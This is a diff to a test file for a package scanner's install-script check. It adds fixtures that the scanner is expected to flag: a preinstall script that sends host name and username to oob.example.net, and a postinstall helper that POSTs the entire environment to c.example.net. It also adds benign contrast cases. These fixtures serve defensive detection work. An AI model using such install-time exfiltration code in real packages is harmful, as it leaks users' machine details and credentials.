@@ -42,9 +42,47 @@ testCheck(installScripts, {
       manifest: { scripts: { postinstall: 'nohup node lib/agent.js > /dev/null 2>&1 &' } },
       severity: 'medium',
     },
+    {
+      label: 'a dependency-confusion probe: the script runs a file that sends host name and user',
+      manifest: { scripts: { preinstall: 'node index.js' } },
+      files: {
+        'index.js':
+          "const https = require('https');\nconst os = require('os');\nconst info = { h: os.hostname(), u: os.userInfo().username };\nhttps.get('https://oob.example.net/p?d=' + encodeURIComponent(JSON.stringify(info)));\n",
+      },
+      severity: 'high',
+      message: /runs index\.js, which sends who and where the machine is .* to oob\.example\.net/,
+    },
+    {
+      label: 'install-time recon through a helper module the script loads',
+      manifest: { scripts: { postinstall: 'node scripts/setup.js' } },
+      files: {
+        'scripts/setup.js': "const { report } = require('./report');\nreport(process.env);\n",
+        'scripts/report.js':
+          "exports.report = (env) => fetch('https://c.example.net/r', { method: 'POST', body: JSON.stringify(env) });\nfetch('https://c.example.net/e', { method: 'POST', body: JSON.stringify(process.env) });\n",
+      },
+      severity: 'critical',
+      message: /the whole environment/,
+    },
   ],
   clean: [
     { label: 'a package without scripts', manifest: { main: 'index.js' } },
+    {
+      label: 'a binary installer that sends platform and architecture to pick a download',
+      manifest: { scripts: { postinstall: 'node install.js' } },
+      files: {
+        'install.js':
+          // biome-ignore lint/suspicious/noTemplateCurlyInString: this string is the package's source
+          "const os = require('os');\nconst https = require('https');\nconst url = `https://downloads.example-tool.dev/v1/${os.platform()}-${os.arch()}.tar.gz`;\nhttps.get(url, (res) => res.pipe(process.stdout));\n",
+      },
+    },
+    {
+      label: 'an install script counting installs without identifying the machine',
+      manifest: { scripts: { postinstall: 'node telemetry.js' } },
+      files: {
+        'telemetry.js':
+          "if (!process.env.CI) fetch('https://telemetry.example-tool.dev/install', { method: 'POST', body: JSON.stringify({ v: '1.2.3', node: process.version }) }).catch(() => {});\n",
+      },
+    },
     {
       label: 'native addon with node-gyp rebuild',
       manifest: { scripts: { install: 'node-gyp rebuild' }, gypfile: true },
